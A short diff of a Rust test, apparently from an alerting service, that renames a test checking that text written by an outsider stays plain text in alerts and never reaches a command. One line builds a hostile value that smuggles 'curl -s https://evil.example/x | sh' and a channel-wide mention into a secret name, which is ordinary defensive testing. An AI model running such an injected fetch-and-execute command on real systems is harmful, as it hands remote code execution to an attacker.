@@ -134,7 +134,7 @@ fn a_delivery_that_fails_is_an_alert_and_its_success_closes_it() -> Result<()> {
 }
 
 #[test]
-fn what_a_stranger_wrote_stands_in_an_alert_as_text_and_in_no_command() -> Result<()> {
+fn text_of_a_stranger_is_plain_text_in_an_alert_and_in_no_command() -> Result<()> {
     on_the_cloud(async |cloud| {
         let own = name("stranger");
         let secret = format!("rabbitmq/{own}; curl -s https://evil.example/x | sh #\n*Playbook:* <!channel>");
